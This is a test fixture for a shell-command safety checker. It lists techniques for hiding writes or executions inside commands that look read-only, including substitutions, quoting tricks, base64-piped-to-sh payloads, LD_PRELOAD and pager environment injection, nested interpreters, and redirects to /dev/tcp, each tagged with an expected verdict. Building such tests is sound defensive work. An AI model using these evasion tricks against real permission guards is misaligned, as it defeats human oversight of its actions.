# Smuggling a write or an execution past a read-only check through the shell
# itself: substitutions, separators, quoting and escapes, redirects, env
# prefixes, wrappers, nested shells, eval, functions and aliases, and
# obfuscated program names. Each hides something that is not proven safe
# inside a command that looks read-only: default mode asks, a readonly
# verifier is refused. Where the shell makes the trick inert (a quoted $(…),
# a comment), the command stays allowed.
#modes: default readonly

# Command substitution.
echo $(touch pwned) # want ask
ls $(touch pwned) # want ask
cat $(rm -f notes.txt) # want ask
echo "$(id > out.txt)" # want ask
grep TODO $(find . -name '*.go') # want ask
ls "$(printf src)" # want ask
cat `touch pwned` # want ask
echo `date` # want allow
echo "`rm notes.txt`" # want ask
wc -l $(git ls-files) # want ask
head -n $(touch pwned; echo 1) README.md # want ask
grep -n "$(cat notes.txt)" main.go # want ask
echo ${x:-$(touch pwned)} # want ask
x=$(whoami) # want ask
echo $(echo $(touch pwned)) # want ask
ls -la $(pwd) # want ask
cat README.md | grep $(echo TODO) # want ask
[ "$(touch pwned)" ] # want ask
echo $((1+2)) # want allow
echo $(( $(touch pwned) )) # want ask
echo $[1+1] # want allow

# Process substitution (<(…) whose commands only read is a pipe of their
# output: allowed; >(…) is written into).
cat <(touch pwned) # want ask
diff <(sort notes.txt) <(sort README.md) # want allow
grep -f <(echo TODO) main.go # want ask
wc -l <(ls) # want allow
ls > >(tee out.txt) # want ask
echo hi | tee >(sh) # want ask
cat notes.txt > >(sh) # want ask
paste <(cut -d, -f1 data/values.csv) <(cut -d, -f2 data/values.csv) # want allow
comm -12 <(sort notes.txt) <(sort notes.txt) # want allow

# Parameters whose values cannot be known before the run.
cat $FILE # want ask
ls $DIR # want ask
cat "$1" # want ask
grep -rn TODO "$ROOT" # want ask
cat ${PWD}/README.md # want ask
$CMD # want ask
"$EDITOR" main.go # want ask
${SHELL} -c ls # want ask
$0 -c 'touch pwned' # want ask
echo ${x:=y} # want ask
ls ${DIR:-.} # want ask
cat ~/$FILE # want ask

# Separators that are not quoted.
ls; rm notes.txt # want ask
ls;rm notes.txt # want ask
ls && rm notes.txt # want ask
ls&&rm notes.txt # want ask
ls || rm notes.txt # want ask
ls | rm notes.txt # want ask
ls & rm notes.txt # want ask
ls |& tee out.txt # want ask
cat README.md & # want ask
grep -rn TODO . & # want ask
coproc ls # want ask
ls; touch pwned; ls # want ask
if true; then touch pwned; fi # want ask
while true; do ls; done # want ask
until false; do ls; done # want ask
for f in *; do rm "$f"; done # want ask
case x in x) touch pwned;; esac # want ask
select x in a b; do ls; done # want ask

# Separators and substitutions made inert by quoting or comments.
grep 'a;rm -rf build' notes.txt # want allow
grep "a && touch pwned" notes.txt # want allow
echo "rm -rf /" # want allow
echo 'x > y' # want allow
echo '$(touch pwned)' # want allow
echo \$\(touch pwned\) # want allow
grep -e '`touch pwned`' notes.txt # want allow
grep foo notes.txt # ; rm -rf build # want allow
echo 'a | sh' # want allow
cat "README.md;rm notes.txt" # want allow
printf '%s\n' '<(touch pwned)' # want allow

# Quoting and escaping the program name.
'rm' notes.txt # want ask
"rm" notes.txt # want ask
\rm notes.txt # want ask
r\m notes.txt # want ask
'r'm notes.txt # want ask
r''m notes.txt # want ask
r""m notes.txt # want ask
$'rm' notes.txt # want ask
$'\x72\x6d' notes.txt # want ask
$'\162\155' notes.txt # want ask
"t"ouch pwned # want ask
to\uch pwned # want ask
s'e'd -i s/a/b/ notes.txt # want ask
\s\e\d -i s/a/b/ notes.txt # want ask
'ls' -la # want allow
"cat" README.md # want allow
\grep -n TODO main.go # want allow
c\at README.md # want allow

# Quoting and gluing the dangerous option.
sed '-i' s/a/b/ notes.txt # want ask
sed "-i" s/a/b/ notes.txt # want ask
sed -i'' s/a/b/ notes.txt # want ask
sed -''i s/a/b/ notes.txt # want ask
sed -n -i s/a/b/ notes.txt # want ask
sed -ni s/a/b/ notes.txt # want ask
sed -Ei s/a/b/ notes.txt # want ask
sed --in-pl s/a/b/ notes.txt # want ask
find . -'delete' # want ask
find . -de""lete # want ask
find . -name x -e\xec touch pwned \; # want ask
sort notes.txt -'o' out.txt # want ask
sort -uo out.txt notes.txt # want ask
sort --outp=out.txt notes.txt # want ask
git '-c' core.pager='touch pwned' log # want ask

# Obfuscated and computed program names.
$(echo rm) notes.txt # want ask
`echo rm` notes.txt # want ask
$(printf '\x72\x6d') notes.txt # want ask
${x:-rm} notes.txt # want ask
a=r; b=m; $a$b notes.txt # want ask
IFS=_; cmd=touch_pwned; $cmd # want ask
{touch,pwned} # want ask
/???/??uch pwned # want ask
/usr/bin/to* pwned # want ask
echo dG91Y2ggcHduZWQ= | base64 -d | sh # want ask
echo 'touch pwned' | sh # want ask
echo 'touch pwned' | bash # want ask
printf 'touch pwned' | sh # want ask
rev <<< 'denwp hcuot' | sh # want ask
ls | sh # want ask
cat scripts/build.sh | bash # want ask
xxd -r -p <<< 746f756368 | sh # want ask

# Path-prefixed programs: a ./ls or a /tmp/cat is whatever the file is.
./ls # want ask
/bin/ls -la # want ask
/usr/bin/cat README.md # want ask
/usr/bin/grep -n TODO main.go # want ask
./scripts/build.sh --dry-run # want ask
../bin/cat README.md # want ask
~/bin/ls # want ask
src/../scripts/build.sh # want ask

# Environment prefixes and assignments.
FOO=bar # want ask
FOO=bar ls # want ask
PAGER='sh -c "touch pwned"' git log # want ask
GIT_PAGER='touch pwned' git log # want ask
GIT_EXTERNAL_DIFF=./evil git diff # want ask
GIT_SSH_COMMAND='touch pwned' git fetch # want ask
GIT_CONFIG_PARAMETERS="'core.pager=touch pwned'" git log # want ask
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch pwned' git status # want ask
GIT_DIR=/tmp/evil git log # want ask
LD_PRELOAD=./evil.so ls # want ask
LD_LIBRARY_PATH=. ls # want ask
BASH_ENV=./evil bash -c ls # want ask
ENV=./evil sh -c ls # want ask
PATH=.:$PATH ls # want ask
PATH=/tmp ls # want ask
LESSOPEN='|touch pwned %s' less README.md # want ask
MANPAGER='sh -c "touch pwned"' man ls # want ask
PROMPT_COMMAND='touch pwned' bash -i # want ask
EDITOR='touch pwned' git commit # want ask
RIPGREP_CONFIG_PATH=./evilrc rg TODO # want ask
GREP_OPTIONS=--help grep x notes.txt # want ask
PYTHONSTARTUP=./evil.py python # want ask
NODE_OPTIONS='--require ./evil.js' node -v # want ask
export PATH=/tmp:$PATH # want ask
export GIT_PAGER='touch pwned'; git log # want ask
env PAGER='touch pwned' git log # want ask
env -i PATH=. ls # want ask
env -S 'touch pwned' # want ask

# Wrappers around a write or an execution.
timeout 5 rm notes.txt # want ask
timeout -s KILL 5 touch pwned # want ask
nice rm notes.txt # want ask
nice -n 19 sh -c 'touch pwned' # want ask
nohup rm notes.txt # want ask
nohup ls & # want ask
env rm notes.txt # want ask
command rm notes.txt # want ask
command -p rm notes.txt # want ask
builtin echo hi > out.txt # want ask
exec rm notes.txt # want ask
time rm notes.txt # want ask
stdbuf -o0 rm notes.txt # want ask
ionice -c3 rm notes.txt # want ask
taskset 1 rm notes.txt # want ask
chrt -i 0 touch pwned # want ask
flock /tmp/lock touch pwned # want deny
setsid touch pwned # want ask
watch ls # want ask
watch -n1 touch pwned # want ask
script -q -c 'touch pwned' /dev/null # want ask
strace -o trace.txt ls # want ask
gdb -batch -ex 'shell touch pwned' # want ask
valgrind ls # want ask
busybox rm notes.txt # want ask
busybox sh -c 'touch pwned' # want ask
sudo ls # want ask
sudo -u root cat README.md # want ask
sudo -s # want ask
doas ls # want ask
su -c 'touch pwned' # want ask
pkexec touch pwned # want ask
runuser -u demo -- touch pwned # want ask
nsenter -t 1 -m ls # want ask
unshare -r ls # want ask
chroot / ls # want ask
at now <<< 'touch pwned' # want ask
batch <<< 'touch pwned' # want ask
screen -dm touch pwned # want ask
tmux new -d 'touch pwned' # want ask
parallel touch ::: pwned # want ask
expect -c 'spawn touch pwned' # want ask

# Nested shells and interpreters.
bash -c 'rm notes.txt' # want ask
sh -c 'touch pwned' # want ask
bash -c "echo hi > out.txt" # want ask
bash -c "bash -c 'touch pwned'" # want ask
sh -c 'sh -c "sh -c \"touch pwned\""' # want ask
bash -lc 'touch pwned' # want ask
zsh -c 'touch pwned' # want ask
dash -c 'touch pwned' # want ask
ksh -c 'touch pwned' # want ask
fish -c 'touch pwned' # want ask
sh -c "$(echo touch) pwned" # want ask
sh -c 'eval "$0"' 'touch pwned' # want ask
bash -c 'ls' && sh -c 'touch pwned' # want ask
bash scripts/build.sh # want ask
sh < scripts/build.sh # want ask
bash -s < scripts/build.sh # want ask
bash --rcfile scripts/build.sh # want ask
bash -i # want ask
exec bash # want ask
source scripts/build.sh # want ask
. scripts/build.sh # want ask
python3 -c 'import os; os.remove("notes.txt")' # want ask
python3 -c 'print(open("README.md").read())' # want ask
perl -e 'unlink "notes.txt"' # want ask
perl -ne 'print' notes.txt # want ask
perl -pi -e 's/a/b/' notes.txt # want ask
ruby -e 'File.delete("notes.txt")' # want ask
ruby -i -pe 'sub(/a/, "b")' notes.txt # want ask
node -e "require('fs').rmSync('notes.txt')" # want ask
php -r 'unlink("notes.txt");' # want ask
lua -e 'os.remove("notes.txt")' # want ask
tclsh <<< 'file delete notes.txt' # want ask
osascript -e 'do shell script "touch pwned"' # want ask

# eval, functions, aliases and traps.
eval 'rm notes.txt' # want ask
eval ls # want ask
eval "$(echo touch pwned)" # want ask
alias ls='rm -rf build'; ls # want ask
alias ll='ls -la' # want ask
ls() { touch pwned; }; ls # want ask
function cat { rm notes.txt; }; cat README.md # want ask
f() { ls; }; f # want ask
trap 'touch pwned' EXIT # want ask
trap 'touch pwned' EXIT; ls # want ask
hash -p /tmp/evil ls; ls # want ask
mapfile -t lines < notes.txt # want ask
read -r line < notes.txt # want ask
let x=1 # want ask
fc -s # want ask

# Redirects that write.
echo hi > out.txt # want ask redirect-write
echo hi >out.txt # want ask redirect-write
echo hi >'out.txt' # want ask redirect-write
echo hi >\out.txt # want ask redirect-write
echo hi >> notes.txt # want ask redirect-write
ls > files.txt # want ask redirect-write
ls 1> files.txt # want ask redirect-write
ls 2> errors.txt # want ask redirect-write
ls &> all.txt # want ask redirect-write
ls &>> all.txt # want ask redirect-write
ls >& all.txt # want ask redirect-write
ls >| files.txt # want ask redirect-write
> out.txt # want ask redirect-write
: > notes.txt # want ask redirect-write
>out.txt ls # want ask redirect-write
2>errors.txt ls # want ask redirect-write
cat README.md <> notes.txt # want ask
exec 3> out.txt # want ask
exec 3> out.txt; echo hi >&3 # want ask
exec > out.txt # want ask
{ ls; } > out.txt # want ask redirect-write
(ls) > out.txt # want ask redirect-write
if true; then ls; fi > out.txt # want ask redirect-write
for i in 1; do ls; done > out.txt # want ask redirect-write
ls > "$OUT" # want ask
ls > $(echo out.txt) # want ask
ls > ~/out.txt # want deny
ls > /tmp/out.txt # want deny
ls > /dev/tcp/example.com/80 # want deny
cat < /dev/tcp/example.com/80 # want ask
ls > /dev/null; touch pwned # want ask
ls 2>/dev/null > out.txt # want ask redirect-write
grep -rn TODO . > /dev/null > out.txt # want ask redirect-write
echo hi > /dev/stdout > out.txt # want ask redirect-write
ls >> /dev/null >> out.txt # want ask redirect-write

# Here-strings feeding an interpreter.
bash <<< 'touch pwned' # want ask
sh <<< "rm notes.txt" # want ask
python3 <<< 'import os; os.remove("notes.txt")' # want ask
cat <<< 'hello' # want allow
grep a <<< 'abc' # want allow
wc -c <<< 'hello world' # want allow

# Reads that block or never end.
cat # want ask
grep TODO # want ask
sort # want ask
read x # want ask
tail -f logs/app.log # want ask
tail -F logs/app.log # want ask
tail --follow=name logs/app.log # want ask
less +F logs/app.log # want ask
cat /dev/urandom # want ask
head -c 16 /dev/urandom # want ask
cat /dev/zero | head -c 10 # want ask
od -An -N4 /dev/random # want ask
yes # want ask
yes | head -3 # want ask
cat /dev/stdin # want ask
dd if=/dev/sda bs=512 count=1 # want ask
